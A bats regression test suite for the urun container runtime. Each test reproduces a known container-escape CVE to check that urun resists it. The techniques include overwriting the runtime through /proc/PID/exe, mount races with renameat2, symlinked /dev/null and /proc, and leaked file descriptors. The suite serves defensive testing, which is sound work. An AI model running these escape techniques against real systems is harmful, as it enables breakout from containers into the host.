#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# Known attacks on container runtimes, one test each: named for what the user is protected from, with the CVE in the comment.
# Each test fails against a runtime that has the hole.  attacks_own.bats has those that were found in urun itself.
load lib.bash
load looker.bash

# --- what several attacks need --------------------------------------------------------------------------------------------

# The host's Python in a container of busybox: the attacker's programs.  with_python ROOTFS, and PYTHON_VOLUMES as options of run.
PYTHON_VOLUMES=(--volume /usr:/usr:ro)
with_python() {
	command -v /usr/bin/python3 >/dev/null || skip "/usr/bin/python3 isn't installed"
	local name
	for name in lib lib64; do
		[ -e "$1/$name" ] || [ ! -e "/$name" ] || ln -s "usr/$name" "$1/$name"
	done
}

# Runs for the rest of the test, in a container of its own that has FOLDER as a volume: swaps the names A and B in it, over and over.
# start_swapper FOLDER A B, stop_swapper
start_swapper() {
	local rootfs=$BATS_TEST_TMPDIR/swapper
	[ -e "$rootfs" ] || bundle_rootfs "$rootfs"
	with_python "$rootfs"
	cat >"$rootfs/swap.py" <<-'END'
		import ctypes, os, sys, time
		swap = ctypes.CDLL(None).renameat2
		here, a, b = os.open("/shared", os.O_PATH), sys.argv[1].encode(), sys.argv[2].encode()
		if swap(here, a, here, b, 2) != 0:
		    sys.exit("these names can't be swapped")
		open("/started", "w").close()
		while True:
		    swap(here, a, here, b, 2)
		    time.sleep(1e-6) # what the kernel makes of it: several times as long as a swap, so that both cores aren't ours
	END
	rm -f "$rootfs/started"
	urun run --detach --name swapper --rootfs "$rootfs" --network none "${PYTHON_VOLUMES[@]}" --volume "$1:/shared" -- \
		/usr/bin/python3 /swap.py "$2" "$3" </dev/null >/dev/null 2>&1
	wait_for 5 test -e "$rootfs/started"
}

stop_swapper() {
	is_status swapper running
	urun delete --force swapper
}

# A folder of the host's that no container is given: what comes up in there was made by an escape.
watched_folder() {
	OUTSIDE=$BATS_TEST_TMPDIR/outside
	mkdir "$OUTSIDE"
}

assert_untouched() {
	[ -z "$(ls -A "$OUTSIDE")" ] || fail "made outside of the container: $(ls -lA "$OUTSIDE")"
}

# As another file would do it: a mount more.  add_bind SOURCE DESTINATION OPTION…
add_bind() {
	config '.mounts += [{"destination": $ARGS.positional[1], "type": "bind", "source": $ARGS.positional[0],
		"options": (["bind"] + $ARGS.positional[2:])}]' --args -- "$@"
}

# For attacks of many rounds: one id, which takes no helper, and of the config's mounts those of these types.  quick_start TYPE…
quick_start() {
	config '.mounts = [.mounts[] | select(.type as $type | $ARGS.positional | index($type))]
		| .linux.namespaces += [{"type": "user"}]
		| .linux.uidMappings = [{"containerID": 0, "hostID": $uid, "size": 1}]
		| .linux.gidMappings = [{"containerID": 0, "hostID": $gid, "size": 1}]' \
		--argjson uid "$(id -u)" --argjson gid "$(id -g)" --args "$@"
}

# A round: urun itself, without the test's time limit, whose process would cost as much again.
round() {
	"$URUN" --root "$STATE" run --bundle "$BUNDLE" c1 </dev/null 2>&1
}

# started_c1: a container c1 that does nothing until it is killed.
started_c1() {
	program sleep 60
	urun run --detach --bundle "$BUNDLE" c1 </dev/null >/dev/null 2>&1
}

ended_c1() {
	urun delete --force c1
}

# --- the runtime's own file -------------------------------------------------------------------------------------------------

# CVE-2019-5736: the program is #!/proc/self/exe, which makes the kernel execute the runtime itself in the container.  Another process of
# the container opens /proc/PID/exe then, keeps the descriptor, and writes through it as soon as nobody executes the file any more.
# This urun belongs to the user, so that the container's root would be let.
@test "the container can't overwrite the urun that runs it" {
	local own=$BATS_TEST_TMPDIR/urun
	with_python "$BUNDLE/rootfs"
	mkdir -p "$BUNDLE/rootfs"/{usr,opt}
	cp "$URUN" "$own"
	add_bind /usr /usr rbind ro
	printf '#!/proc/self/exe --help\n' >"$BUNDLE/rootfs/opt/trap"
	chmod 755 "$BUNDLE/rootfs/opt/trap"
	cat >"$BUNDLE/rootfs/opt/attack.py" <<-'END'
		import os
		mine = os.stat("/proc/self/exe")
		seen, caught = set(), []
		while not os.path.exists("/opt/end"):
		    for pid in os.listdir("/proc"):
		        if not pid.isdigit() or pid in seen:
		            continue
		        try:
		            fd = os.open("/proc/%s/exe" % pid, os.O_RDONLY)
		        except OSError:
		            open("/opt/tried", "a").write(pid + "\n")
		            continue
		        st = os.fstat(fd)
		        if (st.st_dev, st.st_ino) == (mine.st_dev, mine.st_ino):
		            os.close(fd)
		            seen.add(pid)
		            continue
		        seen.add(pid)
		        caught.append(fd)
		        open("/opt/tried", "a").write(os.readlink("/proc/self/fd/%d" % fd) + "\n")
		    for fd in caught:
		        try:
		            os.write(os.open("/proc/self/fd/%d" % fd, os.O_WRONLY | os.O_TRUNC), b"#!/bin/sh\ntouch /pwned\n")
		        except OSError:
		            pass
	END
	program /usr/bin/python3 /opt/attack.py
	"$own" --root "$STATE" run --detach --bundle "$BUNDLE" c1 </dev/null >/dev/null 2>&1
	for _ in {1..20}; do
		"$own" --root "$STATE" exec c1 /opt/trap </dev/null >/dev/null 2>&1 || true
		cmp "$URUN" "$own"
	done
	# Proof that the attack works so far: it came to look at processes that are neither Python nor busybox.
	grep -qv -e python -e busybox "$BUNDLE/rootfs/opt/tried"
	touch "$BUNDLE/rootfs/opt/end"
	wait_for 5 is_status c1 stopped
	cmp "$URUN" "$own"
	urun delete c1
	# The first program of a container likewise.
	program /opt/trap
	observe "$own" --root "$STATE" run --bundle "$BUNDLE" c1
	cmp "$URUN" "$own"
}

# --- /proc that is none -----------------------------------------------------------------------------------------------------

# CVE-2019-16884: an image declares a volume on /proc.  Engines fill it with what the image has there: files that take the runtime's
# writes of security labels, and confine nobody.
@test "nothing that an image brings can be mounted on /proc" {
	local fake=$BATS_TEST_TMPDIR/fake destination
	mkdir -p "$fake"/self/{attr,fd} "$BUNDLE/rootfs/mnt"
	touch "$fake"/self/{status,attr/exec,attr/current}
	ln -s /proc "$BUNDLE/rootfs/mnt/link"
	program /bin/true
	config '.mounts0 = .mounts'
	for destination in /proc /proc/ /./proc /mnt/../proc; do
		config '.mounts = [.mounts0[] | select(.destination != "/proc")]'
		add_bind "$fake" "$destination" rbind
		try run --bundle "$BUNDLE" c1
		[ "$status" != 0 ] || fail "$destination was covered, instead of procfs"
		assert_one_line /proc "isn't the root of a proc file system"
	done
	for destination in /proc /proc/self /proc/self/attr /proc/1/attr/exec /mnt/link /mnt/link/self /proc/sys/kernel; do
		config '.mounts = .mounts0'
		if [ "${destination##*/}" = exec ]; then
			add_bind "$fake/self/status" "$destination"
		else
			add_bind "$fake" "$destination" rbind
		fi
		try run --bundle "$BUNDLE" c1
		[ "$status" != 0 ] || fail "$destination was covered"
		assert_one_line /proc
	done
	for destination in tmpfs ramfs cgroup; do
		config '.mounts = [.mounts0[] | select(.destination != "/proc")] + [{"destination": "/proc", "type": $ARGS.positional[0]}]' --args "$destination"
		try run --bundle "$BUNDLE" c1
		[ "$status" != 0 ] || fail "$destination was mounted on /proc"
		assert_one_line 'on /proc: '
	done
}

# CVE-2023-28642: an image has a link at /proc, to a place where something else is mounted; the runtime's own writes, and the masks, then
# go to one place, and the program looks at another.
@test "an image with a link at /proc or /sys is refused" {
	local name target
	add_bind /usr /elsewhere rbind ro
	for name in proc sys; do
		for target in elsewhere /elsewhere ../../elsewhere . / "$name-2" tmp/../elsewhere /proc/self/root; do
			rm -rf "${BUNDLE:?}/rootfs/$name"
			ln -s "$target" "$BUNDLE/rootfs/$name"
			try run --bundle "$BUNDLE" c1
			[ "$status" != 0 ] || fail "/$name was a link to $target"
			assert_one_line "/$name" 'no ordinary folder'
		done
		rm "$BUNDLE/rootfs/$name"
		echo file >"$BUNDLE/rootfs/$name"
		try run --bundle "$BUNDLE" c1
		assert_one_line "/$name" 'no ordinary folder'
		rm "$BUNDLE/rootfs/$name"
		mkdir "$BUNDLE/rootfs/$name"
	done
}

# CVE-2023-27561 (and CVE-2019-19921 before): a second container that shares files with the first moves the folder on which procfs was
# mounted, so that what is to be masked is looked for elsewhere, and moves it back.  A hook has the second container's place here: it
# runs at the worst moment, each time.
@test "a container that shares the root file system can't keep another's /proc and /sys from being masked" {
	local root=$BUNDLE/rootfs
	cat >"$BATS_TEST_TMPDIR/hook" <<-END
		#!/bin/sh -e
		for name in proc sys; do
			mv $root/\$name $root/moved-\$name
			mkdir -p $root/\$name/sys/kernel $root/\$name/firmware
			: >$root/\$name/kcore >$root/\$name/sysrq-trigger
		done
	END
	chmod 755 "$BATS_TEST_TMPDIR/hook"
	config '.hooks = {"createRuntime": [{"path": $path}]}' --arg path "$BATS_TEST_TMPDIR/hook"
	config '.linux.maskedPaths += ["/sys/kernel"]'
	in_container 'grep -c " /moved-proc .*proc " /proc/mounts /moved-proc/mounts 2>/dev/null | tail -n1
		for path in sys sysrq-trigger; do
			(echo h >/moved-proc/$path/kernel/domainname || echo h >/moved-proc/$path) 2>/dev/null && echo "$path can be written"
		done
		head -c1 /moved-proc/kcore | wc -c; ls /moved-sys/kernel; grep -o " /moved-proc/sys .* ro," /moved-proc/mounts | cut -c1-17'
	assert_lines /moved-proc/mounts:1 0 ' /moved-proc/sys '
}

# CVE-2025-52881: the runtime is made to write a label, a sysctl or the like to another file of procfs than it means: one that takes
# anything and does nothing, or one that ends the host.  Here the container's root has covered parts of /proc, and `exec` comes into it.
@test "exec doesn't write to the files that the container put over those of /proc" {
	local json='{"args": ["echo", "ran"], "cwd": "/", "user": {"uid": 0, "gid": 0}, "oomScoreAdj": 777}' cover
	echo "$json" >"$BATS_TEST_TMPDIR/process.json"
	config '.process.capabilities = ([.process.capabilities | to_entries[] | .value += ["CAP_SYS_ADMIN"]] | from_entries)'
	# A file of tmpfs; a link to a file of procfs that takes any text (/proc/PID/sched); that file over the right one.
	for cover in 'mount -t tmpfs none /proc; mkdir /proc/self; : >/proc/self/oom_score_adj' \
		'mount --bind /proc /real; mount -t tmpfs none /proc; mkdir /proc/self; ln -s /real/1/sched /proc/self/oom_score_adj' \
		'mount --bind /proc /real; mount -t tmpfs none /proc; mkdir /proc/self; : >/proc/self/oom_score_adj
			mount --bind /real/1/sched /proc/self/oom_score_adj'; do
		rm -rf "$BUNDLE"/rootfs/{ready,real}
		mkdir "$BUNDLE/rootfs/real"
		sh_program "set -e; $cover; : >/ready; exec sleep 60"
		urun run --detach --bundle "$BUNDLE" c1 </dev/null >/dev/null 2>&1
		wait_for 5 test -e "$BUNDLE/rootfs/ready"
		try exec --process "$BATS_TEST_TMPDIR/process.json" c1
		ended_c1
		[ "$status" != 0 ] || fail "it was written elsewhere: $cover"
		assert_one_line process.oomScoreAdj
	done
}

# CVE-2025-52881, the sysctls: an image's own file in place of the sysctl, and a second container that puts one there in between.
@test "a sysctl isn't written to a file that the image or another container put in its place" {
	local fake=$BUNDLE/rootfs/fake
	mkdir -p "$fake/sys/kernel"
	echo untouched >"$fake/sys/kernel/shmmni"
	# A name for it that stays, wherever its folder is.
	ln "$fake/sys/kernel/shmmni" "$BATS_TEST_TMPDIR/shmmni"
	config '.linux.sysctl = {"kernel.shmmni": "4097"}'
	program /bin/true
	quick_start proc
	start_swapper "$BUNDLE/rootfs" proc fake
	for _ in {1..100}; do
		round >/dev/null || true
		[ "$(<"$BATS_TEST_TMPDIR/shmmni")" = untouched ] || fail "written to the other container's file"
	done
	stop_swapper
	# No procfs in the config: the image's own.
	[ ! -e "$fake/sys" ] || { rmdir "$BUNDLE/rootfs/proc" && mv "$fake" "$BUNDLE/rootfs/proc"; }
	config 'del(.mounts[] | select(.destination == "/proc")) | .linux.maskedPaths = [] | .linux.readonlyPaths = []'
	try run --bundle "$BUNDLE" c1
	[ "$(<"$BATS_TEST_TMPDIR/shmmni")" = untouched ]
}

# --- folders that a second container changes while the first is made ---------------------------------------------------------

# CVE-2021-30465: the second container swaps a folder of a shared volume for a link, while the first one's mounts are made.  A mount that
# follows the link on the host lands on the place where the next mount's source is, and that then leads to the host's root.
# 2,000 rounds: each of 100 containers has 20 pairs of such mounts.
@test "a racing container gets no folder of the host mounted" {
	local work=$BATS_TEST_TMPDIR/work
	mkdir -p "$work"/{shared/folder,evil} "$work"/place/{1..20}/source "$BUNDLE/rootfs/shared" "$BUNDLE"/rootfs/out-{1..20}
	ln -s "$work/place" "$work/shared/link"
	ln -s / "$work/evil/source"
	quick_start proc
	add_bind "$work/shared" /shared
	config '.mounts += [range(1; 21) |
		{"destination": "/shared/folder/\(.)", "type": "bind", "source": "\($work)/evil", "options": ["bind"]},
		{"destination": "/out-\(.)", "type": "bind", "source": "\($work)/place/\(.)/source", "options": ["rbind"]}]' --arg work "$work"
	sh_program 'echo /out-*/*'
	start_swapper "$work/shared" folder link
	for _ in {1..100}; do
		round >"$work/seen" || true
		case $(<"$work/seen") in
		'/out-*/*' | 'urun: '*) ;;
		*) fail "the host's root was mounted: $(head -c300 "$work/seen")" ;;
		esac
	done
	stop_swapper
	# There was a race: some mounts met the folder, and some the link, which leads to a folder of that name in the container.
	[ -n "$(find "$work/shared" -mindepth 2)" ]
	[ -n "$(ls "$BUNDLE/rootfs$work/place")" ]
}

# CVE-2024-45310: the same race, for the folders and files that are made to mount on.
@test "a racing container makes no folder and no file on the host" {
	local work=$BATS_TEST_TMPDIR/work made=0
	watched_folder
	mkdir -p "$work"/{shared/folder,source} "$BUNDLE/rootfs/shared"
	touch "$work/file"
	ln -s "$OUTSIDE" "$work/shared/link"
	quick_start proc
	add_bind "$work/shared" /shared
	config '.mounts += [range(1; 11) |
		{"destination": "/shared/folder/made-\(.)/below", "type": "bind", "source": "\($work)/source", "options": ["bind"]},
		{"destination": "/shared/folder/file-\(.)", "type": "bind", "source": "\($work)/file", "options": ["bind"]},
		{"destination": "/shared/folder/tmpfs-\(.)", "type": "tmpfs", "source": "tmpfs", "options": []}]' --arg work "$work"
	config '.linux.devices = [{"path": "/shared/folder/device/null", "type": "c", "major": 1, "minor": 3}]'
	program /bin/true
	start_swapper "$work/shared" folder link
	for _ in {1..40}; do
		round >/dev/null || true
		assert_untouched
		# find follows no links.
		[ -z "$(find "$work/shared" -mindepth 2)" ] || made=$((made + 1))
		until find "$work/shared" -mindepth 2 -delete 2>/dev/null; do :; done
	done
	stop_swapper
	[ "$made" -gt 0 ]
}

# --- /dev that is none ------------------------------------------------------------------------------------------------------

# CVE-2025-31133: files are masked by a bind of /dev/null.  Where that is a link which the image or another container has made, what it
# leads to is bound, writable.
@test "a masked file shows the host's null device, whatever the container's /dev/null is" {
	local look='for file in /proc/keys /proc/timer_list; do [ ! -e $file ] || stat -c "%F %t:%T" $file; done; wc -c </proc/keys' dev=$BATS_TEST_TMPDIR/dev
	[ -e /proc/keys ] || skip "this kernel has no /proc/keys"
	local wanted=$'character special file 1:3\n0'
	[ ! -e /proc/timer_list ] || wanted=$'character special file 1:3\n'$wanted
	# A volume on /dev: nothing of ours is made there.
	mkdir "$dev"
	ln -s /proc/sys/kernel/core_pattern "$dev/null"
	config '.mounts0 = .mounts | .mounts = [.mounts[] | select(.destination | startswith("/dev") | not)]'
	add_bind "$dev" /dev rbind
	in_container "$look"
	assert_output "$wanted"
	# The image's own /dev.
	config '.mounts = [.mounts[] | select(.destination != "/dev")]'
	ln -s /proc/sys/kernel/core_pattern "$BUNDLE/rootfs/dev/null"
	in_container "$look"
	[ "$status" != 0 ] || assert_output "$wanted"
	rm "$BUNDLE/rootfs/dev/null"
	# Another container that has the same /dev changes it after the devices were made.
	config '.mounts = .mounts0 | .hooks = {"createContainer": [{"path": "/bin/sh", "args": ["sh", "-ec", $script]}]}' \
		--arg script "umount $BUNDLE/rootfs/dev/null; rm $BUNDLE/rootfs/dev/null; ln -s /proc/sys/kernel/core_pattern $BUNDLE/rootfs/dev/null"
	in_container "$look; readlink /dev/null"
	assert_output "$wanted"$'\n/proc/sys/kernel/core_pattern'
}

# CVE-2025-52565: the terminal is bound on /dev/console.  Where its path /dev/pts/0, or /dev/console, leads to when another container
# swaps it, is bound or covered.
@test "/dev/console is the terminal, whatever another container makes of /dev" {
	local dev=$BATS_TEST_TMPDIR/dev
	mkdir -p "$dev"/{pts,other}
	ln -s /proc/sys/kernel/domainname "$dev/other/0"
	touch "$dev/other/ptmx"
	config '.process.terminal = true | .mounts0 = .mounts
		| .mounts = [.mounts[] | select(.destination | startswith("/dev") | not)]'
	add_bind "$dev" /dev
	config '.mounts += [.mounts0[] | select(.destination == "/dev/pts")]'
	sh_program 'echo console-$(stat -c %F-%t /dev/console | tr " " -)'
	# One that is a link.
	ln -s /proc/sys/kernel/domainname "$dev/console"
	run "$BATS_TEST_DIRNAME/terminal" -- "$URUN" --root "$STATE" run --bundle "$BUNDLE" c1
	refute_contains "$output" console-regular
	assert_contains "$output" '/dev/console is a symbolic link'
	rm "$dev/console"
	# One that is swapped.
	cat >"$BATS_TEST_TMPDIR/rounds.py" <<-'END'
		import os, pty, subprocess, sys
		seen = {}
		for _ in range(50):
		    master, slave = pty.openpty()
		    process = subprocess.Popen(sys.argv[1:], stdin=slave, stdout=slave, stderr=slave, start_new_session=True)
		    os.close(slave)
		    shown = b""
		    try:
		        while data := os.read(master, 4096):
		            shown += data
		    except OSError:
		        pass
		    process.wait()
		    os.close(master)
		    word = shown.split()[0].decode() if shown.startswith(b"console-") else "refused"
		    seen[word] = seen.get(word, 0) + 1
		print(*sorted(seen))
	END
	quick_start bind devpts
	start_swapper "$dev" pts other
	observe timeout 60 python3 "$BATS_TEST_TMPDIR/rounds.py" "$URUN" --root "$STATE" run --bundle "$BUNDLE" c1
	stop_swapper
	case $output in
	'console-character-special-file-88' | 'console-character-special-file-88 refused') ;;
	*) fail "$output" ;;
	esac
}

# --- cgroups ----------------------------------------------------------------------------------------------------------------

# CVE-2023-25809: without a cgroup namespace the host's cgroups are bound; those of the user's own session can be written then, and so can
# those below a /sys that is bound read-only.
@test "the host's cgroups can't be written by a container without a cgroup namespace" {
	[ -d /sys/fs/cgroup ] || skip "this host has no cgroups"
	local look='found=0; while read -r _ _ _ _ point options rest; do case $point,$rest in /sys/fs/cgroup*,*"- cgroup"*) found=1
		case $options in ro,*) ;; *) echo "$point can be written" ;; esac ;; esac; done </proc/self/mountinfo; echo $found'
	config '.mounts0 = [.mounts[] | select(.destination != "/sys")]'
	# runc spec --rootless has /sys so, and podman, docker and nerdctl with --network host.
	config '.mounts = .mounts0'
	add_bind /sys /sys rbind nosuid noexec nodev ro
	in_container "$look"
	assert_output 1
	# --cgroupns=host
	config '.mounts += [{"destination": "/sys/fs/cgroup", "type": "cgroup", "source": "cgroup", "options": ["nosuid", "noexec", "nodev", "relatime", "ro"]}]'
	in_container "$look"
	assert_output 1
	config '.mounts[-1].options -= ["ro"]'
	in_container "$look"
	assert_output 1
	# Both, with a sysfs of its own.
	config '.mounts = .mounts0 + [{"destination": "/sys", "type": "sysfs", "source": "sysfs", "options": ["nosuid", "noexec", "nodev", "ro"]},
		{"destination": "/sys/fs/cgroup", "type": "cgroup2", "source": "cgroup", "options": ["nosuid", "noexec", "nodev", "rw"]}]'
	in_container "$look"
	assert_output 1
}

# --- rights and descriptors -------------------------------------------------------------------------------------------------

# CVE-2022-29162 (and CVE-2022-27651): inheritable capabilities that nobody asked for, which a program with inheritable file capabilities
# gains.
@test "no capability is inheritable unless the config says so" {
	local look='grep -E "^Cap(Inh|Amb)" /proc/self/status' none=$'CapInh:\t0000000000000000\nCapAmb:\t0000000000000000'
	in_container "$look"
	assert_output "$none"
	started_c1
	try exec c1 sh -c "$look"
	assert_output "$none"
	try exec --cap CAP_NET_BIND_SERVICE --cap CAP_SETUID c1 sh -c "$look"
	assert_output "$none"
	try exec --user 1 --cap CAP_SETUID c1 sh -c "$look"
	assert_output "$none"
	ended_c1
	try run --rootfs "$BUNDLE/rootfs" --network none --cap-add SYS_ADMIN -- sh -c "$look"
	assert_output "$none"
	try run --rootfs "$BUNDLE/rootfs" --network none --user 1 --cap-add ALL -- sh -c "$look"
	assert_output "$none"
	try spec --bundle "$BATS_TEST_TMPDIR"
	jq -e '.process.capabilities | (.inheritable // []) + (.ambient // []) == []' "$BATS_TEST_TMPDIR/config.json"
}

# CVE-2024-21626: the working folder is one of the host's, through a descriptor that the runtime has open at that moment.
@test "no descriptor of urun is a way to the host" {
	# Which numbers are open isn't the same in the try of `check`.
	export RUN_ALONE=1
	local fd path
	touch "$BUNDLE/rootfs/this-is-the-container"
	sh_program 'ls -d this-is-the-container ../this-is-the-container ../../this-is-the-container ../../../this-is-the-container 2>/dev/null | head -n1'
	for fd in {3..13}; do
		ln -s "/proc/self/fd/$fd" "$BUNDLE/rootfs/work-$fd"
		for path in "/proc/self/fd/$fd" "/proc/self/fd/$fd/../../.." "/work-$fd"; do
			config '.process.cwd = $path' --arg path "$path"
			try run --bundle "$BUNDLE" c1
			[ "$status" != 0 ] || assert_contains "$output" this-is-the-container
		done
	done
	config '.process.cwd = "/"'
	started_c1
	for fd in {3..13}; do
		for path in "/proc/self/fd/$fd" "/proc/self/fd/$fd/../../.." "/work-$fd"; do
			try exec --cwd "$path" c1 ls -d this-is-the-container
			[ "$status" != 0 ] || assert_output this-is-the-container
		done
	done
	# The second way: a shebang's interpreter by such a descriptor.
	for fd in {3..13}; do
		printf '#!/proc/self/fd/%s/bin/busybox sh\necho a program of the host\n' "$fd" >"$BUNDLE/rootfs/bin/trap"
		chmod 755 "$BUNDLE/rootfs/bin/trap"
		try exec c1 /bin/trap
		[ "$status" != 0 ] || fail "descriptor $fd led to: $output"
	done
	try exec c1 sh -c 'ls /proc/1/fd /proc/self/fd | sort -u | grep -v -e "^[0-3]\?$" -e ^/proc'
	assert_output ''
	ended_c1
}

# crun's CVE-2026-30892: `exec --user 1` was read as user 0.
@test "exec --user is the user that was given, without the rights of root" {
	has_subids || skip "this user has no subids"
	local user
	config '.process.noNewPrivileges = false'
	started_c1
	for user in 1 10 100 01; do
		try exec --user "$user" c1 sh -c 'id -u; id -g; grep CapEff /proc/self/status'
		[ "$status" != 0 ] || assert_lines "$((10#$user))" 0 $'CapEff:\t0000000000000000'
	done
	try exec --user 1:1 c1 sh -c 'id -u; id -g; grep CapEff /proc/self/status'
	assert_lines 1 1 $'CapEff:\t0000000000000000'
	for user in '' : :1 1: 1:1: ' 1' +1 -1 1x 0x1 root 4294967295 4294967296 18446744073709551616; do
		try exec --user "$user" c1 id -u
		[ "$status" != 0 ] || fail "--user '$user' was taken for $output"
	done
	ended_c1
	try run --rootfs "$BUNDLE/rootfs" --network none --user 1 -- sh -c 'id -u; grep CapEff /proc/self/status'
	assert_lines 1 $'CapEff:\t0000000000000000'
}

# --- CVE-2016-9962: a process that enters a container, looked at before it has the container's root -----------------------

@test "a container that may trace processes doesn't get out through the process that exec brings" {
	start_looker urun
	local i
	for ((i = 0; i < 50; i++)); do urun exec c1 /bin/true; done
	looker_found_nothing memory
	urun delete --force c1
}

# Rootless podman is root of a user namespace and runs urun in it: there the container's CAP_SYS_PTRACE counts for urun's
# processes too, whatever their memory map belongs to.
@test "nor where urun itself runs in the user namespace of the container" {
	start_looker unshare --user --map-root-user "$URUN" --root "$STATE"
	local pid i
	pid=$(urun state c1 | jq .pid)
	for ((i = 0; i < 50; i++)); do
		nsenter --user --target "$pid" --preserve-credentials "$URUN" --root "$STATE" exec c1 /bin/true
	done
	looker_found_nothing
	urun delete --force c1
}

@test "nor through the first process of a container that joins its pid namespace" {
	start_looker urun
	local pid i
	pid=$(urun state c1 | jq .pid)
	config '.process.args = ["/bin/true"] | .hooks = {createContainer: [{path: "/bin/true"}]} | .linux.namespaces =
		[{type: "pid", path: "/proc/\($pid)/ns/pid"}, {type: "user", path: "/proc/\($pid)/ns/user"},
		 {type: "mount"}, {type: "network"}, {type: "ipc"}, {type: "uts"}]' --arg pid "$pid"
	for ((i = 0; i < 30; i++)); do urun run --bundle "$BUNDLE" c2 </dev/null; done
	looker_found_nothing memory
	urun delete --force c1
}
